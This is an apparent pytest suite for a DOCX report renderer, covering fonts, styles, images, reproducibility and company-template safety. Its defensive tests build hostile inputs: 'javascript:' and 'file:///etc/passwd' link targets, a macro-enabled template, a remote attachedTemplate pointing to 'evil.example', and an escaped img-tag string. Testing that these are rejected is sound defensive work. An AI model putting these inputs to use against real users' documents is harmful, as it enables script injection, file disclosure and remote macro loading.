"""DOCX renderer: content, styles, complex-script fonts, links, images, reproducibility,
schema validation (openxml-audit), template safety, and a LibreOffice visual round trip."""

from __future__ import annotations

import io
import json
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import docx
import pytest
from docx.oxml.ns import qn

from roi_in_a_box.layout.tree import FrameworkGraphic, block_text, iter_blocks
from roi_in_a_box.render.docx import DocxRenderer, check_ooxml_template
from roi_in_a_box.brand.template_check import TemplateRejected
from tests.sample_tree import HOSTILE, TEXT, sample_document
from tests.sample_tree import test_brand as make_brand

LANGS = ("en", "bn", "th")
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


@pytest.fixture(scope="module")
def rendered(tmp_path_factory) -> dict[str, Path]:
    out = tmp_path_factory.mktemp("docx")
    r = DocxRenderer()
    brand = make_brand()
    paths = {}
    for lang in LANGS:
        res = r.render(sample_document(lang), brand, out / f"{lang}.docx")
        assert res.path.exists() and res.pages == 2 and res.warnings == []
        paths[lang] = res.path
    return paths


def _all_text(d) -> str:
    return "".join(t.text or "" for t in d.element.body.iter(qn("w:t")))


def _style_names(d) -> set[str]:
    ids = {el.get(qn("w:val")) for el in d.element.body.iter(qn("w:pStyle"))}
    ids |= {el.get(qn("w:val")) for el in d.element.body.iter(qn("w:tblStyle"))}
    return {s.name for s in d.styles if s.style_id in ids}


@pytest.mark.parametrize("lang", LANGS)
def test_texts_present_in_order(rendered, lang):
    d = docx.Document(str(rendered[lang]))
    text = _all_text(d)
    pos = 0
    doc = sample_document(lang)
    for page in doc.pages:
        for b in page.blocks:
            # a few representative strings per block, in document order
            for s in (getattr(b, "text", "") or "", *(getattr(b, "header", ()) or ())):
                if s:
                    at = text.find(s, pos)
                    assert at >= 0, (b.id, s)
                    pos = at
    alts = " ".join(e.get("descr", "") for e in d.element.body.iter(
        "{http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing}docPr"))
    for b in (x for p in doc.pages for x in iter_blocks(p.blocks)):
        for word in block_text(b).split():
            if isinstance(b, FrameworkGraphic):  # drawn as a picture: its type labels are in the alt text
                assert all(label in alts for _, label in b.type_labels), alts
            elif b.__class__.__name__ not in ("Chart", "Image"):
                assert word in text or word in ("",), (b.id, word)
    assert TEXT[lang]["title"] in text
    assert "\u200b" not in text


@pytest.mark.parametrize("lang", LANGS)
def test_styles_used(rendered, lang):
    d = docx.Document(str(rendered[lang]))
    names = _style_names(d)
    for name in ("Title", "Heading 1", "Quote", "Caption", "ROI Table"):
        assert name in names, name
    assert d.paragraphs[0].style.name == "Title"
    styles_xml = d.styles.element
    for rf in styles_xml.iter(qn("w:rFonts")):
        assert not any(k.endswith("Theme") or k.endswith("theme") for k in rf.attrib), rf.attrib


@pytest.mark.parametrize("lang,family,bidi", [("bn", "Hind Siliguri", "bn-BD"), ("th", "Sarabun", "th-TH")])
def test_complex_script_fonts(rendered, lang, family, bidi):
    d = docx.Document(str(rendered[lang]))
    checked = 0
    script_range = (0x0980, 0x09FF) if lang == "bn" else (0x0E00, 0x0E7F)
    for r in d.element.body.iter(qn("w:r")):
        t = "".join(x.text or "" for x in r.iter(qn("w:t")))
        if not any(script_range[0] <= ord(c) <= script_range[1] for c in t):
            continue
        rpr = r.find(qn("w:rPr"))
        rf = rpr.find(qn("w:rFonts"))
        assert rf.get(qn("w:cs")) == family
        assert rf.get(qn("w:ascii")) == "Lato" and rf.get(qn("w:hAnsi")) == "Lato"
        assert rpr.find(qn("w:lang")).get(qn("w:bidi")) == bidi
        if rpr.find(qn("w:b")) is not None:
            assert rpr.find(qn("w:bCs")) is not None
        checked += 1
    assert checked >= 4
    # the document defaults carry the language's complex-script font and bidi language too
    defaults = d.styles.element.find(f"{W}docDefaults/{W}rPrDefault/{W}rPr")
    assert defaults.find(qn("w:rFonts")).get(qn("w:cs")) == family
    assert defaults.find(qn("w:lang")).get(qn("w:bidi")) == bidi
    normal = d.styles["Normal"].element.find(qn("w:rPr")).find(qn("w:rFonts"))
    assert normal.get(qn("w:cs")) == family


def test_hyperlinks_only_safe(rendered):
    d = docx.Document(str(rendered["en"]))
    rels = d.part.rels
    links = [el.get(qn("r:id")) for el in d.element.body.iter(qn("w:hyperlink"))]
    targets = {rels[rid].target_ref for rid in links}
    assert targets == {"https://example.com/study", "mailto:roi@example.com"}
    assert all(rels[rid].is_external for rid in links)
    external = [r.target_ref for r in rels.values() if r.is_external]
    assert all(t.startswith(("https:", "mailto:")) for t in external)


def test_unsafe_link_dropped(tmp_path):
    from dataclasses import replace

    from roi_in_a_box.layout.tree import Page, Paragraph, Run

    doc = sample_document("en")
    bad = Paragraph(id="bad", runs=(Run("click", link="javascript:alert(1)"), Run(" file", link="file:///etc/passwd")))
    doc = replace(doc, pages=(Page(blocks=(bad,)),))
    res = DocxRenderer().render(doc, make_brand(), tmp_path / "x.docx")
    d = docx.Document(str(res.path))
    assert not list(d.element.body.iter(qn("w:hyperlink")))
    assert not [r for r in d.part.rels.values() if r.is_external]
    assert len(res.warnings) == 2 and "click file" in _all_text(d)


def test_a_table_keeps_its_spacer_only_before_a_table_or_body_text(tmp_path):
    """Adjacent tables would merge, so a table ends with a small empty paragraph there and
    before body text; before a heading or a caption (their own space before) it is left out."""
    from dataclasses import replace

    from roi_in_a_box.layout.tree import Heading, Page, Paragraph, Run, Table

    def table(i: int, caption: str = "") -> Table:
        return Table(id=f"t{i}", header=("a", "b"), rows=(("1", "2"),), caption=caption)
    blocks = (table(0), Heading(id="h", text="Next", level=2), table(1), table(2), Paragraph(id="p", runs=(Run("x"),)),
              table(3, caption="note"))
    doc = replace(sample_document("en"), pages=(Page(blocks=blocks),))
    res = DocxRenderer().render(doc, make_brand(), tmp_path / "t.docx")
    body = docx.Document(str(res.path)).element.body
    kinds = []
    for el in body:
        if el.tag == qn("w:tbl"):
            kinds.append("table")
        elif el.tag == qn("w:p"):
            kinds.append("text" if "".join(el.itertext()) else "spacer")
    assert kinds == ["table", "text", "table", "spacer", "table", "spacer", "text", "table", "text"], kinds


def test_hostile_string_literal(rendered):
    d = docx.Document(str(rendered["en"]))
    assert HOSTILE in _all_text(d)
    xml = zipfile.ZipFile(rendered["en"]).read("word/document.xml").decode()
    assert "<img" not in xml and "&lt;img src=" in xml


@pytest.mark.parametrize("lang", LANGS)
def test_images_present(rendered, lang):
    d = docx.Document(str(rendered[lang]))
    blips = list(d.element.body.iter("{http://schemas.openxmlformats.org/drawingml/2006/main}blip"))
    assert len(blips) == 3  # three charts; the framework is drawn, not a picture
    for blip in blips:
        part = d.part.related_parts[blip.get(qn("r:embed"))]
        assert part.blob[:8] == b"\x89PNG\r\n\x1a\n" and len(part.blob) > 5000


@pytest.mark.parametrize("lang", LANGS)
def test_framework_is_a_vector_drawing(rendered, lang):
    """One DrawingML group: zone bands, pills and dots as shapes, every label a text box of
    at least 9 pt in the document's fonts, and the labels are the tree's."""
    from roi_in_a_box.layout.tree import FrameworkGraphic, iter_blocks

    xml = zipfile.ZipFile(rendered[lang]).read("word/document.xml").decode()
    groups = re.findall(r"<wpg:wgp\b.*?</wpg:wgp>", xml, flags=re.S)
    assert len(groups) == 1
    g = groups[0]
    prsts = re.findall(r'<a:prstGeom prst="(\w+)"', g)
    assert prsts.count("roundRect") == 3 + 5 and "ellipse" in prsts and prsts.count("straightConnector1") == 4
    sizes = [int(v) for box in re.findall(r"<w:txbxContent>.*?</w:txbxContent>", g, flags=re.S)
             for v in re.findall(r'<w:sz w:val="(\d+)"/>', box)]
    assert sizes and min(sizes) >= 18
    fw = next(b for p in sample_document(lang).pages for b in iter_blocks(p.blocks) if isinstance(b, FrameworkGraphic))
    texts = "".join(re.findall(r"<w:t(?: [^>]*)?>([^<]*)</w:t>", g))
    for _, label in (*fw.type_labels, *fw.zone_labels):
        assert label in texts


def test_logo_image(tmp_path):
    from PIL import Image

    logo = tmp_path / "logo.png"
    Image.new("RGB", (400, 100), (30, 60, 90)).save(logo)
    res = DocxRenderer().render(sample_document("en", logo=logo), make_brand(logo), tmp_path / "l.docx")
    d = docx.Document(str(res.path))
    assert len(d.inline_shapes) == 5  # the logo, three charts, the framework drawing
    assert abs(d.inline_shapes[0].width.pt - 110) < 0.5


def test_byte_identical_rerender(rendered, tmp_path):
    for lang in LANGS:
        again = DocxRenderer().render(sample_document(lang), make_brand(), tmp_path / f"{lang}.docx")
        assert again.path.read_bytes() == rendered[lang].read_bytes()
    for info in zipfile.ZipFile(rendered["en"]).infolist():
        assert info.date_time == (2000, 1, 1, 0, 0, 0)


def test_page_setup_footer_watermark(tmp_path):
    from dataclasses import replace

    doc = replace(sample_document("th", page_size="a4"), watermark="DRAFT")
    res = DocxRenderer().render(doc, make_brand(), tmp_path / "a4.docx")
    d = docx.Document(str(res.path))
    s = d.sections[0]
    assert abs(s.page_width.pt - 595.28) < 0.1 and abs(s.left_margin.pt - 36) < 0.1
    assert "Northbeam" in s.footer.paragraphs[0].text
    assert 'w:instr=" PAGE "' in s.footer._element.xml
    assert "DRAFT" in s.header.paragraphs[0].text
    # pages are separated by a page break
    assert len(list(d.element.body.iter(qn("w:pageBreakBefore")))) + sum(
        1 for br in d.element.body.iter(qn("w:br")) if br.get(qn("w:type")) == "page") == 1


# ---------------------------------------------------------------- openxml-audit

AUDIT = shutil.which("openxml-audit") or str(Path(__import__("sys").executable).with_name("openxml-audit"))


@pytest.mark.skipif(not Path(AUDIT).exists(), reason="openxml-audit not installed")
@pytest.mark.parametrize("lang", LANGS)
def test_openxml_audit_clean(rendered, lang):
    proc = subprocess.run([AUDIT, "-o", "json", "-m", "0", "--ooxml-security", str(rendered[lang])],
                          capture_output=True, text=True, timeout=120)
    report = json.loads(proc.stdout)[0]
    findings = report["errors"]
    assert [f for f in findings if f["type"] == "schema"] == []
    assert [f for f in findings if f["severity"] == "error"] == []
    # the only warnings: our two external hyperlinks (https: and mailto:), flagged by --ooxml-security
    assert sorted(f["description"] for f in findings) == [
        "External relationship target: https://example.com/study",
        "External relationship target: mailto:roi@example.com",
    ]


# ---------------------------------------------------------------- company templates


def _docx_bytes(mutate=None) -> bytes:
    d = docx.Document()
    buf = io.BytesIO()
    d.save(buf)
    if mutate is None:
        return buf.getvalue()
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for info in src.infolist():
            z.writestr(info, mutate(info.filename, src.read(info.filename)))
        extra = getattr(mutate, "extra", {})
        for name, data in extra.items():
            z.writestr(name, data)
    return out.getvalue()


def test_template_check_rejects_macros_and_external(tmp_path):
    ok = tmp_path / "ok.docx"
    ok.write_bytes(_docx_bytes())
    assert check_ooxml_template(ok, "docx") == []

    def macro(name, data):
        if name == "[Content_Types].xml":
            return data.replace(b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")
        return data
    macro.extra = {"word/vbaProject.bin": b"\0" * 10}
    bad = tmp_path / "bad.docm"
    bad.write_bytes(_docx_bytes(macro))
    problems = check_ooxml_template(bad, "docx")
    assert any("macro-enabled file type" in p for p in problems)
    assert any("vbaProject" in p for p in problems)
    assert any("macroEnabled" in p for p in problems)

    def remote(name, data):
        if name == "word/_rels/settings.xml.rels" or name == "word/_rels/document.xml.rels":
            return data.replace(b"</Relationships>", b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/'
                                b'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm"'
                                b' TargetMode="External"/></Relationships>')
        return data
    rem = tmp_path / "remote.docx"
    rem.write_bytes(_docx_bytes(remote))
    problems = check_ooxml_template(rem)
    assert any("attachedTemplate" in p and "evil.example" in p for p in problems)

    notzip = tmp_path / "x.docx"
    notzip.write_bytes(b"hello")
    assert check_ooxml_template(notzip)

    pptx = pytest.importorskip("pptx")
    buf = io.BytesIO()
    pptx.Presentation().save(buf)
    buf.seek(0)
    assert check_ooxml_template(buf, "pptx") == []
    buf.seek(0)
    assert check_ooxml_template(buf, "docx") != []


def test_renders_from_company_template(tmp_path):
    from dataclasses import replace

    from docx.shared import Pt

    tpl = docx.Document()
    sec = tpl.sections[0]
    sec.page_width, sec.page_height = Pt(595), Pt(842)
    sec.left_margin = Pt(50)
    sec.footer.paragraphs[0].text = "Company confidential"
    tpl.styles["Heading 1"].font.size = Pt(21)
    path = tmp_path / "company.docx"
    tpl.save(path)
    brand = replace(make_brand(), reference_docx=path)
    res = DocxRenderer().render(sample_document("bn"), brand, tmp_path / "out.docx")
    d = docx.Document(str(res.path))
    assert abs(d.sections[0].page_width.pt - 595) < 0.5 and abs(d.sections[0].left_margin.pt - 50) < 0.5
    assert d.sections[0].footer.paragraphs[0].text == "Company confidential"
    assert d.styles["Heading 1"].font.size.pt == 21  # company style kept
    assert "ROI Table" in [s.name for s in d.styles]  # missing style added
    assert TEXT["bn"]["title"] in _all_text(d)

    bad = tmp_path / "macro.docm"
    bad.write_bytes(path.read_bytes())
    with pytest.raises(TemplateRejected):
        DocxRenderer().render(sample_document("en"), replace(make_brand(), reference_docx=bad), tmp_path / "n.docx")


# ---------------------------------------------------------------- LibreOffice


@pytest.mark.skipif(shutil.which("soffice") is None or shutil.which("pdftoppm") is None,
                    reason="LibreOffice (soffice) or pdftoppm missing")
@pytest.mark.office
def test_libreoffice_converts_with_brand_fonts(rendered, tmp_path):
    from tests.lo_helpers import convert_to_pdf, pdf_fonts, pdf_to_pngs

    pdfs = convert_to_pdf([rendered[lang] for lang in LANGS], tmp_path / "pdf")
    expected = {"en": ("Lato",), "bn": ("Lato", "HindSiliguri"), "th": ("Lato", "Sarabun")}
    for lang, pdf in zip(LANGS, pdfs):
        pngs = pdf_to_pngs(pdf, tmp_path / "png", dpi=60)
        assert len(pngs) >= 2
        fonts = pdf_fonts(pdf)
        if fonts:
            for fam in expected[lang]:
                assert fam in fonts, (lang, fam, fonts)


def test_card_rows_are_balanced(tmp_path):
    """Four cards make two rows of two (as in the PDF), not three and a lone one."""
    import dataclasses

    from roi_in_a_box.layout.tree import Card, Cards

    cards = Cards(id="uc", cards=tuple(Card(title=f"Use case {i}", text="Text.", roi_type="efficiency",
                                            badge="Efficiency") for i in range(4)))
    doc = sample_document("en")
    doc = dataclasses.replace(doc, pages=(dataclasses.replace(doc.pages[0], blocks=(cards,)),))
    res = DocxRenderer().render(doc, make_brand(), tmp_path / "cards.docx")
    table = docx.Document(str(res.path)).tables[0]
    assert [len(r.cells) for r in table.rows] == [2, 2]
    assert all(c.text.strip() for r in table.rows for c in r.cells)
